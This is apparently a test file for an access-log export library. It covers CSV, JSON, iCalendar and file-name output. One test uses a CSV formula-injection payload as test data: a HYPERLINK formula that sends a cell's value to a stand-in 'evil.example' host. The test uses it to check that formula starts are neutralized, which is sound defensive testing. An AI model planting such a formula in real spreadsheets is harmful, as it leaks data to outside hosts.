// lib/export: CSV for spreadsheets (and never a formula), the JSON export and its import, the merge
// of an import into the log, the iCalendar of end dates, and file names.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../lib/csv';
import {
  CSV_HEADER,
  EXPORT_FORMAT,
  EXPORT_VERSION,
  escapeIcsText,
  exportFileName,
  foldIcsLine,
  mergeRecords,
  parseExport,
  toCsv,
  toICalendar,
  toJson,
} from '../lib/export';
import { defaultPolicy } from '../lib/policy';
import { deriveStatus, editNote, newRecord, observe, remind, revoke, type AccessRecord } from '../lib/records';
import { anyText, arbitraryRecord, isoDateTime } from './arbitraries';

const NOW = new Date('2026-11-23T10:00:00Z');
const LATER = new Date('2026-11-25T09:30:00Z');
const EXPORTED_AT = new Date('2026-11-23T12:00:00Z');

function record(id: string, email: string, extra: { endsOn?: string; reason?: string; ticket?: string; at?: Date; projects?: AccessRecord['projects'] } = {}): AccessRecord {
  return newRecord(
    {
      id,
      email,
      displayName: 'Jane Doe',
      orgRole: 'member',
      projects: extra.projects ?? [
        { name: 'Production', role: 'analyst' },
        { name: 'Staging', role: 'owner' },
      ],
      note: {
        reason: extra.reason ?? 'Q1 tracking plan',
        ticket: extra.ticket ?? 'SOW-7',
        approver: 'cfo@acme.com',
        ...(extra.endsOn ? { endsOn: extra.endsOn } : {}),
      },
      invitedBy: 'dana.whitfield@acme.com',
      region: 'eu',
      organization: 'Acme Analytics',
    },
    extra.at ?? NOW,
  );
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('toCsv', () => {
  it('writes the header row first, exactly', () => {
    const csv = toCsv([]);
    expect(csv).toBe(
      'id,email,display name,org role,projects,reason,ticket,approver,ends on,status,invited at,invited by,accepted at,revoked at,region,organization,last event,history\r\n',
    );
    expect(parseCsv(csv)).toEqual([[...CSV_HEADER]]);
  });

  it('writes one row per record with every column, read back as written', () => {
    const accepted = observe(record('r1', 'jane@agency.io', { endsOn: '2027-01-31' }), { state: 'member' }, LATER);
    const csv = toCsv([accepted]);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const [header, row, ...rest] = parseCsv(csv);
    expect(rest).toEqual([]);
    expect(Object.fromEntries(header!.map((h, i) => [h, row![i]]))).toEqual({
      id: 'r1',
      email: 'jane@agency.io',
      'display name': 'Jane Doe',
      'org role': 'member',
      projects: 'Production (analyst); Staging (owner)',
      reason: 'Q1 tracking plan',
      ticket: 'SOW-7',
      approver: 'cfo@acme.com',
      'ends on': '2027-01-31',
      status: '',
      'invited at': '2026-11-23T10:00:00.000Z',
      'invited by': 'dana.whitfield@acme.com',
      'accepted at': '2026-11-25T09:30:00.000Z',
      'revoked at': '',
      region: 'eu',
      organization: 'Acme Analytics',
      'last event': '2026-11-25T09:30:00.000Z accepted: Now in the member list',
      history:
        '2026-11-23T10:00:00.000Z invited by dana.whitfield@acme.com: Member; Production (analyst), Staging (owner) | ' +
        '2026-11-25T09:30:00.000Z accepted: Now in the member list',
    });
  });

  it('fills the status only when given the time and the policy', () => {
    const policy = defaultPolicy();
    const records = [
      record('pending', 'a@agency.io'),
      observe(record('expiring', 'b@agency.io', { endsOn: '2026-11-30' }), { state: 'member' }, NOW),
      observe(record('active', 'c@agency.io', { endsOn: '2027-06-30' }), { state: 'member' }, NOW),
      revoke(record('revoked', 'd@agency.io'), NOW),
      observe(record('expired', 'e@agency.io', { endsOn: '2026-11-01' }), { state: 'member' }, NOW),
    ];
    const status = (csv: string) => parseCsv(csv).slice(1).map((row) => row[9]);
    expect(status(toCsv(records, { now: NOW, policy }))).toEqual(['pending', 'expiring', 'active', 'revoked', 'expired']);
    expect(status(toCsv(records))).toEqual(['', '', '', '', '']);
    expect(status(toCsv(records, { now: NOW }))).toEqual(['', '', '', '', '']);
  });

  it('gives each record the status deriveStatus gives it, on the admin\'s calendar day', () => {
    const policy = defaultPolicy();
    // 2026-11-23T10:00Z is the 24th at UTC+14 and still the 22nd at UTC−11: a grant ending on the
    // 23rd has ended in Kiribati and has a day left in American Samoa.
    const records = [observe(record('ends-23', 'a@agency.io', { endsOn: '2026-11-23' }), { state: 'member' }, NOW), record('pending', 'b@agency.io')];
    const status = (timeZone: string) => parseCsv(toCsv(records, { now: NOW, policy, timeZone })).slice(1).map((row) => row[9]);
    expect(status('Pacific/Kiritimati')).toEqual(['expired', 'pending']);
    expect(status('Pacific/Pago_Pago')).toEqual(['expiring', 'pending']);
    for (const timeZone of ['Pacific/Kiritimati', 'Pacific/Pago_Pago', 'UTC']) {
      expect(status(timeZone)).toEqual(records.map((r) => deriveStatus(r, policy, NOW, timeZone)));
    }
  });

  it('keeps quotes, commas, new lines and any script in values, through a CSV reader', () => {
    const reason = 'Audit, phase "2"\r\nsecond line\nthird; fourth\rfifth — café 日本語 😀 \u202Eevil';
    const r = { ...record('r,"1"', 'jöhn@agency.io', { reason, ticket: 'JIRA-1, "urgent"' }), displayName: 'Zoë "Z" Ångström, PhD' };
    const [, row] = parseCsv(toCsv([r]));
    expect(row![0]).toBe('r,"1"');
    expect(row![1]).toBe('jöhn@agency.io');
    expect(row![2]).toBe('Zoë "Z" Ångström, PhD');
    expect(row![5]).toBe(reason);
    expect(row![6]).toBe('JIRA-1, "urgent"');
    expect(row).toHaveLength(CSV_HEADER.length);
  });

  it('neutralizes every formula start in every cell, history included', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const evil = `${start}HYPERLINK("http://evil.example/?"&A1,"click")`;
      const base = record(`${start}id`, `${start}x@agency.io`, { endsOn: '2027-01-31', projects: [{ name: evil, role: 'admin' }] });
      // Set past newRecord, which trims: an import can hold any text.
      const r: AccessRecord = {
        ...base,
        id: `${start}id`,
        email: `${start}x@agency.io`,
        reason: evil,
        ticket: evil,
        displayName: evil,
        approver: evil,
        invitedBy: evil,
        organization: evil,
        history: [...base.history, { at: '2026-11-24T08:00:00.000Z', type: 'note-edited', by: evil, detail: evil }],
      };
      const rows = parseCsv(toCsv([r], { now: NOW, policy: defaultPolicy() }));
      expect(rows).toHaveLength(2);
      for (const cell of rows[1]!) expect(cell).not.toMatch(FORMULA_START);
      const byColumn: Record<string, string> = Object.fromEntries(CSV_HEADER.map((h, i) => [h, rows[1]![i]!]));
      expect(byColumn.reason).toBe(`'${evil}`);
      expect(byColumn.id).toBe(`'${start}id`);
      // Inside the history, the people-typed parts are neutralized too.
      expect(byColumn.history).toContain(`note-edited by '${evil}: '${evil}`);
      expect(byColumn['last event']).toBe(`2026-11-24T08:00:00.000Z note-edited by '${evil}: '${evil}`);
      for (const piece of byColumn.history!.split(' | ')) expect(piece).toMatch(/^\d{4}-/);
    }
  });

  it('exports 100,000 records', () => {
    const base = observe(record('base', 'base@agency.io', { endsOn: '2027-01-31' }), { state: 'member' }, LATER);
    const records = Array.from({ length: 100_000 }, (_, i) => ({ ...base, id: `r${i}`, email: `user${i}@agency.io`, reason: i % 2 ? `Reason, "${i}"` : `Line one\nline ${i}` }));
    const csv = toCsv(records, { now: NOW, policy: defaultPolicy() });
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(100_001);
    expect(rows[0]).toEqual([...CSV_HEADER]);
    for (const i of [0, 1, 49_999, 99_999]) {
      expect(rows[i + 1]!.slice(0, 2)).toEqual([`r${i}`, `user${i}@agency.io`]);
      expect(rows[i + 1]![5]).toBe(i % 2 ? `Reason, "${i}"` : `Line one\nline ${i}`);
      expect(rows[i + 1]![9]).toBe('active');
    }
  });
});

const arbitraryLog = fc.uniqueArray(
  arbitraryRecord({ freeText: anyText, invitedAt: fc.oneof(isoDateTime, fc.constantFrom('2026-11-23T10:00:00.000Z', '2026-11-23T11:00:00+01:00')) }),
  { selector: (r) => r.id, maxLength: 8 },
);

describe('toJson', () => {
  it('writes the format, the version, the time and every record sorted by invitation time then id', () => {
    const b = record('b', 'b@agency.io', { at: NOW });
    const a = record('a', 'a@agency.io', { at: NOW });
    const first = remind(record('z', 'z@agency.io', { at: new Date('2026-01-01T00:00:00Z'), endsOn: '2026-12-01' }), NOW, 'Ends in 7 days');
    const text = toJson([b, first, a], EXPORTED_AT);
    expect(text.startsWith('{\n  "format": "invite-guard-access-log",\n  "version": 1,\n  "exportedAt": "2026-11-23T12:00:00.000Z",\n  "records": [\n    {\n      "id": "z",')).toBe(true);
    const document = JSON.parse(text) as { format: string; version: number; exportedAt: string; records: AccessRecord[] };
    expect(document.format).toBe(EXPORT_FORMAT);
    expect(document.version).toBe(EXPORT_VERSION);
    expect(document.records.map((r) => r.id)).toEqual(['z', 'a', 'b']);
    expect(document.records[0]).toEqual(first);
    expect(document.records[0]!.history).toHaveLength(2);
    // The order given does not matter, nor the order of the keys inside a record.
    const shuffled = { ...Object.fromEntries(Object.entries(a).reverse()) } as AccessRecord;
    expect(toJson([a, shuffled === a ? a : b, first], EXPORTED_AT)).toBe(toJson([first, b, a], EXPORTED_AT));
    expect(toJson([shuffled, b, first], EXPORTED_AT)).toBe(text);
  });

  it('compares invitation times as instants, whatever their offset', () => {
    const early = { ...record('late-id', 'x@agency.io'), invitedAt: '2026-11-23T11:00:00+02:00' }; // 09:00Z
    const late = { ...record('early-id', 'y@agency.io'), invitedAt: '2026-11-23T10:00:00Z' };
    const ids = (JSON.parse(toJson([late, early], EXPORTED_AT)) as { records: AccessRecord[] }).records.map((r) => r.id);
    expect(ids).toEqual(['late-id', 'early-id']);
  });

  it('reads back byte for byte: export, import, export again', () => {
    fc.assert(
      fc.property(arbitraryLog, (records) => {
        const text = toJson(records, EXPORTED_AT);
        const imported = parseExport(text);
        expect(imported.ok).toBe(true);
        expect(imported.rejected).toEqual([]);
        expect(imported.records).toHaveLength(records.length);
        expect(toJson(imported.records, EXPORTED_AT)).toBe(text);
        expect(toJson([...records].reverse(), EXPORTED_AT)).toBe(text);
      }),
      { numRuns: 300 },
    );
  });
});

describe('parseExport', () => {
  const valid = JSON.stringify({ format: EXPORT_FORMAT, version: 1, exportedAt: EXPORTED_AT.toISOString(), records: [] });

  it('refuses what is not JSON, or not an export, with a clear error', () => {
    const bad = parseExport('{"format": "invite-guard-access-log", "version": 1, "records": [');
    expect(bad).toMatchObject({ ok: false, records: [], rejected: [] });
    expect(bad.error).toMatch(/^The file is not valid JSON: /);
    expect(parseExport('').error).toBe('The file is empty.');
    expect(parseExport(null as unknown as string).error).toBe('The file is not text.');
    expect(parseExport('[]').error).toMatch(/not an Invite Guard access log export/);
    expect(parseExport('"text"').error).toMatch(/not an Invite Guard access log export/);
    expect(parseExport(JSON.stringify({ format: 'something-else', version: 1, records: [] })).error).toBe(
      'The file is not an Invite Guard access log export: its format is "something-else", expected "invite-guard-access-log".',
    );
    expect(parseExport(JSON.stringify({ version: 1, records: [] })).error).toMatch(/its format is missing/);
  });

  it('says which version it reads', () => {
    const newer = parseExport(JSON.stringify({ format: EXPORT_FORMAT, version: 2, records: [] }));
    expect(newer.ok).toBe(false);
    expect(newer.error).toBe(
      'Unsupported export version 2: this version of Invite Guard reads version 1 (the file was written by a newer Invite Guard; update the extension to import it).',
    );
    expect(parseExport(JSON.stringify({ format: EXPORT_FORMAT, version: '1', records: [] })).error).toBe(
      'Unsupported export version "1": this version of Invite Guard reads version 1.',
    );
    expect(parseExport(JSON.stringify({ format: EXPORT_FORMAT, records: [] })).error).toMatch(/version missing: .*reads version 1/);
  });

  it('needs a list of records', () => {
    expect(parseExport(JSON.stringify({ format: EXPORT_FORMAT, version: 1, records: {} })).error).toBe('The export has no list of records ("records" is an object).');
    expect(parseExport(JSON.stringify({ format: EXPORT_FORMAT, version: 1 })).error).toBe('The export has no list of records ("records" is missing).');
    expect(parseExport(valid)).toEqual({ ok: true, records: [], rejected: [] });
    expect(parseExport(`\uFEFF${valid}`).ok).toBe(true);
  });

  it('keeps the valid records and says why each other one was rejected, with its place', () => {
    const good = record('good', 'jane@agency.io');
    const wrongRole = { ...record('wrong-role', 'lee@agency.io'), orgRole: 'emperor' };
    const badHistory = { ...record('bad-history', 'kim@agency.io'), history: [{ at: 'yesterday', type: 'invited' }] };
    const { id: _id, ...noId } = record('x', 'no-id@agency.io');
    const text = JSON.stringify({ format: EXPORT_FORMAT, version: 1, records: [good, wrongRole, 42, badHistory, noId, good] });
    const result = parseExport(text);
    expect(result.ok).toBe(true);
    expect(result.records).toEqual([good, good]);
    expect(result.rejected).toEqual([
      { index: 1, id: 'wrong-role', reason: expect.stringMatching(/^orgRole: /) },
      { index: 2, reason: expect.stringMatching(/^record: .*object/) },
      { index: 3, id: 'bad-history', reason: 'history[0].at: must be a date and time (ISO 8601)' },
      { index: 4, reason: expect.stringMatching(/^id: /) },
    ]);
  });

  it('reports every problem of a record, up to five', () => {
    const text = JSON.stringify({ format: EXPORT_FORMAT, version: 1, records: [{ id: 'empty' }] });
    const [rejected] = parseExport(text).rejected;
    expect(rejected!.reason.split('; ')).toHaveLength(6);
    expect(rejected!.reason).toMatch(/^email: .*; orgRole: .*and \d+ more problems$/);
  });

  it('never throws, whatever the text', () => {
    const json = fc.json().map((s) => s);
    const document = fc
      .record({ format: fc.constantFrom(EXPORT_FORMAT, 'x'), version: fc.constantFrom(1, 2, '1'), records: fc.array(fc.jsonValue(), { maxLength: 4 }) })
      .map((d) => JSON.stringify(d));
    fc.assert(
      fc.property(fc.oneof(json, document, fc.string({ unit: 'binary' })), (text) => {
        const result = parseExport(text);
        expect(typeof result.ok).toBe('boolean');
        if (!result.ok) expect(result.error).toEqual(expect.any(String));
      }),
      { numRuns: 500 },
    );
  });

  it('imports 100,000 records', { timeout: 60_000 }, () => {
    const base = observe(record('base', 'base@agency.io', { endsOn: '2027-01-31' }), { state: 'member' }, LATER);
    const records = Array.from({ length: 100_000 }, (_, i) => ({ ...base, id: `r${String(i).padStart(6, '0')}`, email: `user${i}@agency.io` }));
    records[500] = { ...records[500]!, orgRole: 'emperor' as never };
    const result = parseExport(toJson(records, EXPORTED_AT));
    expect(result.ok).toBe(true);
    expect(result.records).toHaveLength(99_999);
    expect(result.rejected).toEqual([{ index: 500, id: 'r000500', reason: expect.stringMatching(/^orgRole: /) }]);
    expect(result.records[99_998]).toEqual(records[99_999]);
  });
});

describe('mergeRecords', () => {
  const jane = record('r1', 'jane@agency.io', { endsOn: '2027-01-31' });

  it('adds records it does not know, and leaves identical ones alone', () => {
    const lee = record('r2', 'lee@agency.io');
    const copy = JSON.parse(JSON.stringify(jane)) as AccessRecord;
    const result = mergeRecords([jane], [copy, lee]);
    expect(result).toEqual({ records: [jane, lee], added: 1, updated: 0, unchanged: 1 });
    expect(result.records[0]).toBe(jane);
    expect(mergeRecords([], [])).toEqual({ records: [], added: 0, updated: 0, unchanged: 0 });
  });

  it('takes the fields of the later copy and unites the histories in time order', () => {
    const accepted = observe(jane, { state: 'member' }, LATER); // existing: accepted on the 25th
    const edited = editNote(jane, { reason: 'Q2 tracking plan', ticket: 'SOW-8', approver: 'cfo@acme.com', endsOn: '2027-01-31' }, new Date('2026-11-26T08:00:00Z'), 'dana@acme.com');
    const result = mergeRecords([accepted], [edited]);
    expect(result).toMatchObject({ added: 0, updated: 1, unchanged: 0 });
    const merged = result.records[0]!;
    expect(merged.reason).toBe('Q2 tracking plan');
    expect(merged.ticket).toBe('SOW-8');
    expect(merged.updatedAt).toBe('2026-11-26T08:00:00.000Z');
    // The later copy did not know the acceptance: the united history does, and so does the record.
    expect(merged.acceptedAt).toBe(LATER.toISOString());
    expect(merged.history.map((e) => e.type)).toEqual(['invited', 'accepted', 'note-edited']);
    expect(merged.history.map((e) => e.at)).toEqual([NOW.toISOString(), LATER.toISOString(), '2026-11-26T08:00:00.000Z']);
  });

  it('keeps the existing fields when the incoming copy is older, adding only its events', () => {
    const reminded = remind(jane, new Date('2026-11-24T00:00:00Z'), 'Ends in 68 days'); // older copy from another browser
    const current = editNote(jane, { reason: 'Newer reason', endsOn: '2027-01-31' }, new Date('2026-11-26T00:00:00Z'));
    const result = mergeRecords([current], [reminded]);
    expect(result.updated).toBe(1);
    const merged = result.records[0]!;
    expect(merged.reason).toBe('Newer reason');
    expect(merged.updatedAt).toBe('2026-11-26T00:00:00.000Z');
    expect(merged.history.map((e) => e.type)).toEqual(['invited', 'reminded', 'note-edited']);
  });

  it('keeps a revocation the later copy does not know', () => {
    const revoked = revoke(jane, new Date('2026-11-24T00:00:00Z'), 'dana@acme.com');
    const touched = remind(jane, new Date('2026-11-25T00:00:00Z'), 'Ends soon');
    const merged = mergeRecords([revoked], [touched]).records[0]!;
    expect(merged.revokedAt).toBe('2026-11-24T00:00:00.000Z');
    expect(merged.history.map((e) => e.type)).toEqual(['invited', 'revoked', 'reminded']);
  });

  it('never duplicates an event or a record, and merging again changes nothing', () => {
    const a = remind(jane, new Date('2026-11-24T00:00:00Z'), 'Ends in 68 days');
    const later = remind(jane, new Date('2026-11-25T00:00:00Z'), 'Ends in 67 days');
    // The same event with a different "by" is the same event.
    const b = { ...later, history: [{ ...later.history[0]!, by: 'someone-else@acme.com' }, ...later.history.slice(1)] };
    const first = mergeRecords([a], [b, b]);
    expect(first.records).toHaveLength(1);
    expect(first.records[0]!.history.map((e) => e.detail)).toEqual([jane.history[0]!.detail, 'Ends in 68 days', 'Ends in 67 days']);
    expect(first).toMatchObject({ added: 0, updated: 1, unchanged: 1 });
    const again = mergeRecords(first.records, [a, b]);
    expect(again).toMatchObject({ added: 0, updated: 0, unchanged: 2 });
    expect(again.records).toEqual(first.records);
  });

  it('is idempotent and never loses an event, for any logs', () => {
    fc.assert(
      fc.property(arbitraryLog, arbitraryLog, (existing, incoming) => {
        const once = mergeRecords(existing, incoming);
        const ids = once.records.map((r) => r.id);
        expect(new Set(ids).size).toBe(ids.length);
        expect(once.added + once.updated + once.unchanged).toBe(incoming.length);
        const twice = mergeRecords(once.records, incoming);
        expect(twice).toMatchObject({ added: 0, updated: 0, unchanged: incoming.length });
        const byId = new Map(once.records.map((r) => [r.id, r]));
        for (const r of [...existing, ...incoming]) {
          const keys = new Set(byId.get(r.id)!.history.map((e) => `${e.at}|${e.type}|${e.detail ?? ''}`));
          for (const e of r.history) expect(keys.has(`${e.at}|${e.type}|${e.detail ?? ''}`)).toBe(true);
        }
      }),
      { numRuns: 200 },
    );
  });
});

/** The content lines of an iCalendar text, unfolded. */
function unfold(ics: string): string[] {
  return ics.replace(/\r\n[ \t]/g, '').split('\r\n').slice(0, -1);
}

function events(ics: string): string[][] {
  const out: string[][] = [];
  let current: string[] | null = null;
  for (const line of unfold(ics)) {
    if (line === 'BEGIN:VEVENT') current = [];
    else if (line === 'END:VEVENT') {
      out.push(current!);
      current = null;
    } else current?.push(line);
  }
  return out;
}

describe('toICalendar', () => {
  const upcoming = observe(record('r1', 'jane@agency.io', { endsOn: '2027-01-31' }), { state: 'member' }, NOW);
  const today = record('r2', 'lee@agency.io', { endsOn: '2026-11-23' });
  const past = record('r3', 'old@agency.io', { endsOn: '2026-11-22' });
  const revoked = revoke(record('r4', 'gone@agency.io', { endsOn: '2027-03-01' }), NOW);
  const removed = observe(observe(record('r5', 'removed@agency.io', { endsOn: '2027-03-01' }), { state: 'member' }, NOW), { state: 'absent' }, LATER);
  const permanent = record('r6', 'staff@acme.com');

  it('writes a calendar with one all-day event per upcoming end date and the next quarterly review', () => {
    const ics = toICalendar([past, upcoming, revoked, today, removed, permanent], NOW);
    const lines = unfold(ics);
    expect(lines.slice(0, 5)).toEqual(['BEGIN:VCALENDAR', 'VERSION:2.0', 'PRODID:-//Invite Guard//Access log//EN', 'CALSCALE:GREGORIAN', 'METHOD:PUBLISH']);
    expect(lines[lines.length - 1]).toBe('END:VCALENDAR');
    expect(ics.endsWith('END:VCALENDAR\r\n')).toBe(true);
    expect(ics.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);

    const all = events(ics);
    expect(all).toHaveLength(3);
    const [lee, jane, review] = all;
    expect(lee).toContain('SUMMARY:Access ends: lee@agency.io');
    expect(lee).toContain('DTSTART;VALUE=DATE:20261123');
    expect(jane!.slice(0, 7)).toEqual([
      'UID:r1-ends@invite-guard',
      'DTSTAMP:20261123T100000Z',
      'DTSTART;VALUE=DATE:20270131',
      'DTEND;VALUE=DATE:20270201',
      'SUMMARY:Access ends: jane@agency.io',
      'DESCRIPTION:Temporary access of jane@agency.io to Acme Analytics ends on 2027-01-31.\\nRoles: Member\\; Production (analyst)\\, Staging (owner)\\nReason: Q1 tracking plan\\nTicket: SOW-7\\nApprover: cfo@acme.com\\nInvited by: dana.whitfield@acme.com',
      'TRANSP:TRANSPARENT',
    ]);
    expect(jane!.join('\n')).toContain('BEGIN:VALARM\nACTION:DISPLAY\nDESCRIPTION:Access of jane@agency.io ends in 7 days (2027-01-31).\nTRIGGER:-P7D\nEND:VALARM');
    expect(review).toContain('UID:access-review-2027-01-01@invite-guard');
    expect(review).toContain('DTSTART;VALUE=DATE:20270101');
    expect(review).toContain('DTEND;VALUE=DATE:20270102');
    expect(review).toContain('SUMMARY:Quarterly access review: Mixpanel');
    expect(ics).not.toMatch(/old@agency\.io|gone@agency\.io|removed@agency\.io|staff@acme\.com/);
  });

  it('puts the review on the first day of the next quarter', () => {
    const reviewDay = (now: string) => events(toICalendar([], new Date(now)))[0]!.find((l) => l.startsWith('DTSTART'));
    expect(reviewDay('2026-01-01T00:00:00Z')).toBe('DTSTART;VALUE=DATE:20260401');
    expect(reviewDay('2026-03-31T23:59:59Z')).toBe('DTSTART;VALUE=DATE:20260401');
    expect(reviewDay('2026-04-01T00:00:00Z')).toBe('DTSTART;VALUE=DATE:20260701');
    expect(reviewDay('2026-09-30T12:00:00Z')).toBe('DTSTART;VALUE=DATE:20261001');
    expect(reviewDay('2026-12-31T23:00:00Z')).toBe('DTSTART;VALUE=DATE:20270101');
  });

  it("reminds on each of the policy's lead days when given a policy", () => {
    const ics = toICalendar([upcoming], NOW, { policy: defaultPolicy() });
    expect(events(ics)[0]!.filter((l) => l.startsWith('TRIGGER:'))).toEqual(['TRIGGER:-P14D', 'TRIGGER:-P7D', 'TRIGGER:-P1D', 'TRIGGER:PT0S']);
  });

  it('escapes text and folds long lines at 75 octets of UTF-8', () => {
    const reason = `Audit; phase 1, "EU"\nsecond line\\path — ${'café 日本語 😀 '.repeat(12)}`;
    const r = { ...record('r,1;x', 'jane@agency.io', { endsOn: '2027-01-31', reason }) };
    const ics = toICalendar([r], NOW);
    for (const line of ics.split('\r\n')) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
    const physical = ics.split('\r\n');
    expect(physical.filter((l) => l.startsWith(' ')).length).toBeGreaterThan(3);
    const description = events(ics)[0]!.find((l) => l.startsWith('DESCRIPTION:'))!;
    expect(description).toContain(`Reason: Audit\\; phase 1\\, "EU"\\nsecond line\\\\path — ${escapeIcsText('café 日本語 😀 '.repeat(12).trim())}\\nTicket:`);
    expect(events(ics)[0]).toContain('UID:r\\,1\\;x-ends@invite-guard');
    // No character is cut in two: every physical line is valid UTF-8 on its own.
    for (const line of physical) expect(Buffer.from(line, 'utf8').toString('utf8')).toBe(line);
  });

  it('escapes as RFC 5545 says', () => {
    expect(escapeIcsText('a\\b;c,d\r\ne\nf\rg')).toBe('a\\\\b\\;c\\,d\\ne\\nf\\ng');
    expect(escapeIcsText('tab\tkept, bell\u0007 dropped')).toBe('tab\tkept\\, bell dropped');
    expect(escapeIcsText('plain: "quoted"')).toBe('plain: "quoted"');
  });

  it('folds any line into pieces of at most 75 octets that unfold to the line', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 300 }), fc.string({ unit: 'binary', maxLength: 300 }), fc.string({ unit: 'grapheme', maxLength: 120 })), (text) => {
        const line = `DESCRIPTION:${escapeIcsText(text)}`;
        const folded = foldIcsLine(line);
        const pieces = folded.split('\r\n');
        pieces.forEach((piece, i) => {
          expect(Buffer.byteLength(piece, 'utf8')).toBeLessThanOrEqual(75);
          if (i > 0) expect(piece.startsWith(' ')).toBe(true);
          if (i > 0) expect(piece.length).toBeGreaterThan(1);
        });
        expect(folded.replace(/\r\n /g, '')).toBe(line);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('exportFileName', () => {
  it('names the file after the organization and the UTC date', () => {
    expect(exportFileName('csv', 'Acme Analytics', NOW)).toBe('invite-guard-access-log-acme-analytics-2026-11-23.csv');
    expect(exportFileName('json', '  Société Générale — EU!! ', NOW)).toBe('invite-guard-access-log-societe-generale-eu-2026-11-23.json');
    expect(exportFileName('ics', 'ACME_prod/2026', new Date('2026-11-23T23:30:00-05:00'))).toBe('invite-guard-access-log-acme-prod-2026-2026-11-24.ics');
    expect(exportFileName('csv', '日本', NOW)).toBe('invite-guard-access-log-2026-11-23.csv');
    expect(exportFileName('csv', '', NOW)).toBe('invite-guard-access-log-2026-11-23.csv');
    const long = exportFileName('csv', 'x'.repeat(59) + ' tail'.repeat(20), NOW);
    expect(long).toMatch(/^invite-guard-access-log-[a-z0-9-]{1,60}-2026-11-23\.csv$/);
    expect(long).not.toMatch(/--/);
  });
});
